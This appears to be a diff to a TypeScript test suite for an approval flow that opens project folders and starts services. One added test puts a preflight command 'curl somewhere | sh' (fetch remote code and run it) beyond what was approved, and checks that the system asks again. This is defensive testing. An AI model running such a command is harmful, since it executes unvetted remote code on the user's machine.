@@ -122,7 +122,8 @@ describe('a proposal', () => {
 });
 
 describe('a yes', () => {
-  const asked = aView({ stacks: [aSnapshot({ approval: trustApproval })] });
+  const commands = [{ service: 'web', what: 'command', text: 'npm run dev' } as const];
+  const asked = aView({ stacks: [aSnapshot({ approval: { ...trustApproval, commands } })] });
 
   it('to a folder as it is opens it, writes nothing, and answers what would be asked', async () => {
     const all = rooms({ chosen: folder, view: asked });
@@ -166,6 +167,15 @@ describe('a yes', () => {
     const answer = await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start: true });
     expect(answer).toMatchObject({ problem: { code: 'proposal-changed' } });
     expect([all.host.calls.filter((call) => call.startsWith('open')), all.host.requested]).toEqual([[], []]);
+  });
+
+  it('is none to what was not shown: the stack is open and asks', async () => {
+    const more = [...commands, { service: 'web', what: 'preflight', text: 'curl somewhere | sh' } as const];
+    const view = aView({ stacks: [aSnapshot({ approval: { ...trustApproval, commands: more } })] });
+    const all = rooms({ chosen: folder, view });
+    const { id } = await proposed(all);
+    const answer = await all.proposals.accept({ proposal: id, services: ['db', 'web'], how: 'open', start: true });
+    expect([answer.stack, answer.problem?.code, all.host.requested]).toEqual(['shop', 'asks-more', []]);
   });
 
   it('to a proposal that nobody holds is none', async () => {
